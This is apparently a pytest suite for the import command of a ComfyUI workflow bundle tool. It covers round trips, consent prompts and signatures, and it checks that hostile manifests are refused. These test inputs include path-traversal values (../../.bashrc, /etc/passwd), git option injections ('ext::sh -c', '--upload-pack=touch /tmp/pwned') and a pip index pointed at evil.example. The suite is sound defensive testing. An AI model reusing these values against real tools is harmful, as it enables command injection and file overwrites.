"""`git comfy import`: bundles made by the real export in one environment, imported into a
second one (its own ComfyUI, models under other names, a model index of its own), through the
real CLI; hostile bundles of every kind; downloads from a real HTTPS server on 127.0.0.1."""

from __future__ import annotations

import json
import os
import subprocess
from pathlib import Path
from typing import Any

import pytest
from conftest import (
    Comfy,
    assert_one_error,
    git,
    git_comfy,
    save_in_comfyui,
    tree_digest,
    workflow_file,
)
from hostile import REFUSED
from hostile import build as build_hostile
from terminal import run_on_terminal

from git_comfy import bundlewrite
from git_comfy.commands import demo
from git_comfy.core import bundle

DREAMSHAPER = "checkpoints/sd15/dreamshaper_8.safetensors"
LORA = "loras/portrait_detail_v2.safetensors"


@pytest.fixture
def sailor_bundle(env_repo: Path, comfy: Comfy, tmp_path: Path) -> Path:
    """The demo's sailor portrait exported from the first environment (two models, no
    sources: the receiver must have them)."""
    assert comfy("track", "portraits/sailor", cwd=env_repo).code == 0
    out = tmp_path / "sailor.tar.gz"
    result = comfy("export", "portraits/sailor", "--yes", "-o", str(out), cwd=env_repo)
    assert result.code == 0, result.err
    return out


@pytest.fixture
def second(tmp_path: Path) -> Path:
    """A second environment: its own ComfyUI holding the same model files under other names,
    and its own model index."""
    comfyui = Path(demo.build_comfyui(str(tmp_path / "other" / "ComfyUI")))
    models = comfyui / "models"
    (models / "checkpoints" / "sd15" / "dreamshaper_8.safetensors").rename(
        models / "checkpoints" / "dreamshaper-v8.safetensors")
    (models / "loras" / "portrait_detail_v2.safetensors").rename(
        models / "loras" / "detail.safetensors")
    for name in ("lighthouse.json", "portraits/sailor.json"):
        (comfyui / "user" / "default" / "workflows" / name).unlink()
    studio = tmp_path / "other" / "studio"
    studio.mkdir()
    git("init", "-q", cwd=studio)
    result = git_comfy("init", "--comfyui", str(comfyui), cwd=studio)
    assert result.code == 0, result.err
    git("config", "comfy.indexPath", str(tmp_path / "other" / "index.sqlite3"), cwd=studio)
    return studio


def comfyui_of(studio: Path) -> Path:
    return studio.parent / "ComfyUI"


def imported(comfy: Comfy, studio: Path, bundle_path: Path, *args: str) -> dict[str, Any]:
    result = comfy("import", str(bundle_path), "--yes", "--json", *args, cwd=studio)
    assert result.code == 0, result.err
    report: dict[str, Any] = json.loads(result.out)
    return report


def loader_values(workflow: dict[str, Any]) -> dict[str, Any]:
    return {n["type"]: n["widgets_values"][0] for n in workflow["nodes"]
            if n["type"] in ("CheckpointLoaderSimple", "LoraLoader")}


# -- the round trip -----------------------------------------------------------------------------

def test_models_under_other_names_are_found_by_hash(sailor_bundle: Path, second: Path,
                                                    comfy: Comfy) -> None:
    report = imported(comfy, second, sailor_bundle)
    assert [(m["action"], m["as"]) for m in report["models"]] == [
        ("here", "dreamshaper-v8.safetensors"), ("here", "detail.safetensors")]
    written = workflow_file(comfyui_of(second), "portraits/sailor")
    workflow = json.loads(written.read_text())
    assert loader_values(workflow) == {"CheckpointLoaderSimple": "dreamshaper-v8.safetensors",
                                       "LoraLoader": "detail.safetensors"}
    listed = git_comfy("status", "--json", cwd=second)
    assert {w["name"] for w in json.loads(listed.out)["workflows"]} == {"portraits/sailor"}
    pyproject = (second / ".cec" / "pyproject.toml").read_text()
    assert '[tool.comfydock.workflows."portraits/sailor"]' in pyproject
    assert "dreamshaper-v8.safetensors" in pyproject


def test_running_it_twice_changes_nothing_the_second_time(sailor_bundle: Path, second: Path,
                                                          comfy: Comfy) -> None:
    imported(comfy, second, sailor_bundle)
    before = tree_digest(second, comfyui_of(second))
    report = imported(comfy, second, sailor_bundle)
    assert report["workflow"]["state"] == "same"
    assert tree_digest(second, comfyui_of(second)) == before


def test_dry_run_shows_the_plan_and_changes_nothing(sailor_bundle: Path, second: Path,
                                                    comfy: Comfy) -> None:
    before = tree_digest(second, comfyui_of(second))
    result = comfy("import", str(sailor_bundle), "--dry-run", cwd=second)
    assert result.code == 0, result.err
    assert "here      checkpoints/sd15/dreamshaper_8.safetensors" in result.out
    assert "workflow → " in result.out and "(new)" in result.out
    plan = json.loads(comfy("import", str(sailor_bundle), "--dry-run", "--json", cwd=second).out)
    assert plan["workflow"]["state"] == "new" and plan["signature"] is None
    assert plan["custom_nodes"] == []
    assert tree_digest(second, comfyui_of(second)) == before


def test_a_model_elsewhere_on_the_machine_is_linked_in(sailor_bundle: Path, second: Path,
                                                       comfy: Comfy, tmp_path: Path) -> None:
    library = tmp_path / "library" / "loras"
    library.mkdir(parents=True)
    lora = comfyui_of(second) / "models" / "loras" / "detail.safetensors"
    lora.rename(library / "kept.safetensors")
    assert comfy("models", "add-dir", str(tmp_path / "library"), cwd=second).code == 0
    report = imported(comfy, second, sailor_bundle)
    [placed] = [m for m in report["models"] if m["folder"] == "loras"]
    assert placed["action"] == "link"
    target = Path(placed["target"])
    assert target == comfyui_of(second) / "models" / "loras" / "portrait_detail_v2.safetensors"
    assert os.path.samefile(target, library / "kept.safetensors")
    workflow = json.loads(workflow_file(comfyui_of(second), "portraits/sailor").read_text())
    assert loader_values(workflow)["LoraLoader"] == "portrait_detail_v2.safetensors"
    again = imported(comfy, second, sailor_bundle)  # now it is here
    assert [m["action"] for m in again["models"]] == ["here", "here"]


def test_a_missing_model_needs_consent(sailor_bundle: Path, second: Path, comfy: Comfy) -> None:
    (comfyui_of(second) / "models" / "loras" / "detail.safetensors").unlink()
    before = tree_digest(second, comfyui_of(second))
    assert_one_error(comfy("import", str(sailor_bundle), "--yes", cwd=second),
                     "1 required model(s)", "--allow-missing-models")
    assert tree_digest(second, comfyui_of(second)) == before
    result = comfy("import", str(sailor_bundle), "--yes", "--allow-missing-models", cwd=second)
    assert result.code == 0, result.err
    assert "to do: put portrait_detail_v2.safetensors" in result.out
    assert "Reload ComfyUI in the browser" in result.out


def test_an_existing_different_workflow_is_kept(sailor_bundle: Path, second: Path,
                                                comfy: Comfy) -> None:
    save_in_comfyui(comfyui_of(second), "portraits/sailor", '{"nodes": [], "mine": true}')
    path = workflow_file(comfyui_of(second), "portraits/sailor")
    before = tree_digest(second, comfyui_of(second))
    assert_one_error(comfy("import", str(sailor_bundle), "--yes", cwd=second),
                     "exists and differs", "--force", "--as NAME")
    assert tree_digest(second, comfyui_of(second)) == before
    report = imported(comfy, second, sailor_bundle, "--as", "from-alice/sailor")
    assert report["workflow"]["name"] == "from-alice/sailor"
    assert json.loads(path.read_text())["mine"] is True
    imported(comfy, second, sailor_bundle, "--force")
    assert "mine" not in json.loads(path.read_text())
    backups = list((path.parent.parent / ".git-comfy-backups").rglob("*.json"))
    assert [json.loads(b.read_text())["mine"] for b in backups] == [True]


def test_without_a_terminal_it_needs_yes(sailor_bundle: Path, second: Path) -> None:
    before = tree_digest(second, comfyui_of(second))
    done = subprocess.run(["git", "comfy", "import", str(sailor_bundle)], cwd=second,
                          stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=60)
    assert done.returncode == 1
    assert done.stderr.strip().endswith("--dry-run to see the plan)")
    assert tree_digest(second, comfyui_of(second)) == before


def test_on_a_terminal_it_asks_once(sailor_bundle: Path, second: Path) -> None:
    code, screen = run_on_terminal(["git", "comfy", "import", str(sailor_bundle)], second,
                                   ["n"])
    assert code == 1 and "Import? [y/N]" in screen
    assert not workflow_file(comfyui_of(second), "portraits/sailor").exists()
    code, screen = run_on_terminal(["git", "comfy", "import", str(sailor_bundle)], second,
                                   ["y"])
    assert code == 0, screen
    assert workflow_file(comfyui_of(second), "portraits/sailor").exists()


# -- signatures ---------------------------------------------------------------------------------

def test_require_signed_refuses_an_unsigned_bundle(sailor_bundle: Path, second: Path,
                                                   comfy: Comfy) -> None:
    git("config", "comfy.indexPath", str(second.parent / "index.sqlite3"), cwd=second)
    before = tree_digest(second, comfyui_of(second))
    assert_one_error(comfy("import", str(sailor_bundle), "--yes", "--require-signed",
                           cwd=second), "a trusted signature is required", "not signed")
    assert tree_digest(second, comfyui_of(second)) == before
    git("config", "comfy.requireSignedBundles", "true", cwd=second)
    assert_one_error(comfy("import", str(sailor_bundle), "--dry-run", cwd=second),
                     "comfy.requireSignedBundles")


# -- hostile bundles ----------------------------------------------------------------------------

def test_hostile_bundles_change_nothing_and_leave_nothing(
        second: Path, comfy: Comfy, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Every refused case of notes/security.md §8 (A), through the real command: one line,
    exit 1, nothing changed in the environment or ComfyUI, no temporary folder left. One
    environment for all of them: a case that changed it would show in the next digest."""
    scratch = tmp_path / "scratch"
    scratch.mkdir()
    monkeypatch.setenv("TMPDIR", str(scratch))
    before = tree_digest(second, comfyui_of(second))
    for case in sorted(REFUSED):
        path = build_hostile(case, tmp_path / "in")
        result = comfy("import", str(path), "--yes", cwd=second)
        assert result.code == 1, (case, result.err)
        assert result.out == "" and len(result.err.splitlines()) == 1, (case, result.err)
        assert "Traceback" not in result.err, case
        assert tree_digest(second, comfyui_of(second)) == before, case
        assert list(scratch.iterdir()) == [], case  # no temporary folder left


def crafted(tmp_path: Path, change: dict[str, Any]) -> Path:
    """A bundle whose manifest says what a stranger wants it to say; its members are honest."""
    workflow = json.dumps({"nodes": [{"id": 1, "type": "CheckpointLoaderSimple", "mode": 0,
                                      "widgets_values": ["x.safetensors"]}]}).encode()
    members = {bundle.WORKFLOW: workflow}
    document = json.loads(bundle.to_json(bundle.Manifest(
        tool_version="9", created="2026-01-01T00:00:00Z", workflow="evil",
        workflow_format="ui", files=bundlewrite.checksums(members))))
    model = {"name": "x.safetensors", "filename": "x.safetensors", "folder": "checkpoints",
             "relpath": "x.safetensors", "size": 3, "sha256": "a" * 64, "quick_hash": "b" * 32,
             "sources": ["https://example.com/x.safetensors"], "nodes": ["1"], "required": True}
    node = {"package": "p", "source": "git", "version": None,
            "repository": "https://github.com/o/p", "registry_id": None, "node_types": ["T"],
            "required": True, "pip": [], "path": None}
    section, field, value = change["section"], change["field"], change["value"]
    if section == "models":
        document["models"] = [{**model, field: value}]
    elif section == "custom_nodes":
        document["custom_nodes"] = [{**node, field: value}]
    else:
        document["workflow"][field] = value
    path = tmp_path / "crafted.tar.gz"
    path.write_bytes(bundlewrite.archive(json.dumps(document).encode(), members, 0))
    return path


@pytest.mark.parametrize("change, fragment", [
    ({"section": "models", "field": "relpath", "value": "../../../../.bashrc"}, "'..'"),
    ({"section": "models", "field": "relpath", "value": "/etc/passwd"}, "absolute"),
    ({"section": "models", "field": "relpath", "value": "C:\\x.safetensors"}, "models[0]"),
    ({"section": "models", "field": "relpath", "value": "a\x00b"}, "control"),
    ({"section": "models", "field": "relpath", "value": "x\u202egnp.safetensors"}, "models[0]"),
    ({"section": "models", "field": "folder", "value": "../custom_nodes"}, "folder key"),
    ({"section": "models", "field": "sources", "value": ["http://example.com/x"]}, "https"),
    ({"section": "models", "field": "sources", "value": ["https://u:p@example.com/x"]},
     "https"),
    ({"section": "models", "field": "sha256", "value": "xyz"}, "SHA-256"),
    ({"section": "custom_nodes", "field": "repository", "value": "ext::sh -c touch x"},
     "https"),
    ({"section": "custom_nodes", "field": "repository",
      "value": "--upload-pack=touch /tmp/pwned"}, "https"),
    ({"section": "custom_nodes", "field": "repository", "value": "file:///etc"}, "https"),
    ({"section": "custom_nodes", "field": "path", "value": "nodes/../x"}, "nodes/"),
    ({"section": "workflow", "field": "name", "value": "../../escape"}, "workflow.name"),
])
def test_hostile_manifests_are_refused(change: dict[str, Any], fragment: str, second: Path,
                                       comfy: Comfy, tmp_path: Path) -> None:
    path = crafted(tmp_path, change)
    before = tree_digest(second, comfyui_of(second))
    assert_one_error(comfy("import", str(path), "--dry-run", cwd=second), fragment)
    assert tree_digest(second, comfyui_of(second)) == before


def test_pip_lines_get_verdicts_in_the_plan(second: Path, comfy: Comfy, tmp_path: Path) -> None:
    path = crafted(tmp_path, {"section": "custom_nodes", "field": "pip", "value": [
        "numpy>=1.24", "--extra-index-url https://evil.example/simple", "ultralytics==8.3.41",
        "torch==2.1.0", "git+https://github.com/o/r"]})
    plan = json.loads(comfy("import", str(path), "--dry-run", "--json", cwd=second).out)
    [node] = plan["custom_nodes"]
    assert [p["verdict"] for p in node["pip"]] == ["ok", "blocked", "blocked", "warn",
                                                  "blocked"]
    assert node["state"] == "missing"
